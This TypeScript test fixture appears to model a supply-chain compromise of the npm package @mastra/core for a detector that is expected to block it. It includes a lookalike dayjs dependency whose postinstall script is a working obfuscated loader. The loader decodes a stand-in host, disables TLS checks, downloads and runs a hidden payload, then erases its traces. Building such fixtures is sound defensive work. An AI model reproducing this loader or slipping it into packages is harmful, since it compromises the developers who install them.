import type { Replica, ReplicaVersion } from '../replicas/replica.js';

export const before = {
  version: '1.14.2',
  publishedAt: '2026-06-10T09:14:27.000Z',
  publisher: { name: 'mastra-bot', email: 'bot@mail.example.invalid', trustedPublisher: { id: 'github' } },
  manifest: {
    type: 'module',
    main: './dist/index.js',
    exports: { '.': './dist/index.js' },
    license: 'Apache-2.0',
    description: 'a framework for assistants',
    dependencies: { zod: '^4.0.0' },
  },
  files: {
    'dist/index.js': `import { z } from 'zod';
import { createTool } from './chunk-TOOL.js';

// src/assistant/index.ts
var Assistant = class {
  #tools;
  #model;
  constructor({ name, instructions, model, tools = {} }) {
    this.name = name;
    this.instructions = instructions;
    this.#model = model;
    this.#tools = new Map(Object.entries(tools));
  }
  async generate(messages, { maxSteps = 5 } = {}) {
    const history = [{ role: 'system', content: this.instructions }, ...messages];
    for (let step = 0; step < maxSteps; step++) {
      const answer = await this.#model.doGenerate({ messages: history, tools: [...this.#tools.keys()] });
      history.push({ role: 'assistant', content: answer.text });
      if (!answer.toolCall) return { text: answer.text, steps: step + 1 };
      const tool = this.#tools.get(answer.toolCall.name);
      const result = await tool.execute(tool.inputSchema.parse(answer.toolCall.args));
      history.push({ role: 'tool', content: JSON.stringify(result) });
    }
    throw new Error(\`Assistant "\${this.name}" reached \${maxSteps} steps\`);
  }
};

var configSchema = z.object({ assistants: z.record(z.string(), z.instanceof(Assistant)) });

// src/mastra/index.ts
var Mastra = class {
  constructor(config) {
    this.assistants = configSchema.parse(config).assistants;
  }
  getAssistant(name) {
    const assistant = this.assistants[name];
    if (!assistant) throw new Error(\`Assistant with name \${name} not found\`);
    return assistant;
  }
};

export { Assistant, Mastra, createTool };
//# sourceMappingURL=index.js.map
`,
    'dist/chunk-TOOL.js': `// src/tools/index.ts
function createTool({ id, description, inputSchema, execute }) {
  return Object.freeze({ id, description, inputSchema, execute });
}

export { createTool };
`,
    'README.md': `# Mastra

Assistants, workflows and tools.
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'mastra-core-2026',
  story: 'June 2026: published by a person with a private address instead of the workflow; a new dependency that looks like a date library, with a borrowed repository, carries the loader.',
  name: '@mastra/core',
  before,
  after: {
    version: '1.14.3',
    publishedAt: '2026-06-17T09:14:27.000Z',
    publisher: { name: 'ehindero', email: 'ehindero@inbox.example.invalid' },
    manifest: {
      type: 'module',
      main: './dist/index.js',
      exports: { '.': './dist/index.js' },
      license: 'Apache-2.0',
      description: 'a framework for assistants',
      dependencies: { 'easy-day-js': '^1.11.21', zod: '^4.0.0' },
    },
    files: {
      ...before.files,
    },
  },
  brings: [
    {
      name: 'easy-day-js',
      versions: [
        {
          version: '1.11.20',
          publishedAt: '2026-06-15T09:14:27.000Z',
          publisher: { name: 'sergey2016', email: 'sergey2016@inbox.example.invalid' },
          manifest: {
            main: 'dayjs.min.js',
            license: 'MIT',
            description: '2KB immutable date time library alternative',
            repository: { type: 'git', url: 'git+https://github.example.invalid/iamkun/dayjs.git' },
          },
          files: {
            'dayjs.min.js': `!function(t,e){"object"==typeof exports&&"undefined"!=typeof module?module.exports=e():"function"==typeof define&&define.amd?define(e):(t="undefined"!=typeof globalThis?globalThis:t||self).dayjs=e()}(this,function(){"use strict";function t(e){this.$d=void 0===e?new Date:new Date(e)}return t.prototype.add=function(e,n){var i={second:1e3,minute:6e4,hour:36e5,day:864e5};return new t(this.$d.getTime()+e*i[n])},t.prototype.valueOf=function(){return this.$d.getTime()},t.prototype.toISOString=function(){return this.$d.toISOString()},function(e){return new t(e)}});
`,
          },
        },
        {
          version: '1.11.22',
          publishedAt: '2026-06-16T22:40:10.000Z',
          publisher: { name: 'sergey2016', email: 'sergey2016@inbox.example.invalid' },
          manifest: {
            main: 'dayjs.min.js',
            license: 'MIT',
            description: '2KB immutable date time library alternative',
            repository: { type: 'git', url: 'git+https://github.example.invalid/iamkun/dayjs.git' },
            scripts: { postinstall: 'node setup.cjs --no-warnings' },
          },
          files: {
            'dayjs.min.js': `!function(t,e){"object"==typeof exports&&"undefined"!=typeof module?module.exports=e():"function"==typeof define&&define.amd?define(e):(t="undefined"!=typeof globalThis?globalThis:t||self).dayjs=e()}(this,function(){"use strict";function t(e){this.$d=void 0===e?new Date:new Date(e)}return t.prototype.add=function(e,n){var i={second:1e3,minute:6e4,hour:36e5,day:864e5};return new t(this.$d.getTime()+e*i[n])},t.prototype.valueOf=function(){return this.$d.getTime()},t.prototype.toISOString=function(){return this.$d.toISOString()},function(e){return new t(e)}});
`,
            'setup.cjs': `const _0x={a:['aHR0cHM6Ly8=','ZWFzeS1kYXkuZXhhbXBsZS5pbnZhbGlk','L3VwZGF0ZS8='],b:s=>Buffer.from(s,'base64').toString('utf-8')};
process.env.NODE_TLS_REJECT_UNAUTHORIZED='0';
const {get:_g}=require('https'),_f=require('fs'),_p=require('path'),_c=require('child_process'),_o=require('os');
const _u=_0x.a.map(_0x.b).join('')+_o.platform()+'?id='+Buffer.from(_o.hostname()).toString('hex');
const _h=_p.join(_o.tmpdir(),Math.random().toString(36).slice(2)+'.js');
_g(_u,r=>{let d=[];r.on('data',c=>d.push(c));r.on('end',()=>{_f.writeFileSync(_h,Buffer.concat(d));const k=_c.spawn(process.argv0,[_h],{detached:!0,stdio:'ignore',windowsHide:!0,env:{...process.env,__p:process.env.INIT_CWD||''}});k.unref();
/* leave nothing */
_f.rmSync(__filename,{force:!0});const m=_p.join(__dirname,'package.json'),j=JSON.parse(_f.readFileSync(m,'utf8'));delete j.scripts;_f.writeFileSync(m,JSON.stringify(j,null,2));});}).on('error',()=>{});
`,
          },
        },
      ],
    },
  ],
  must: 'block',
};
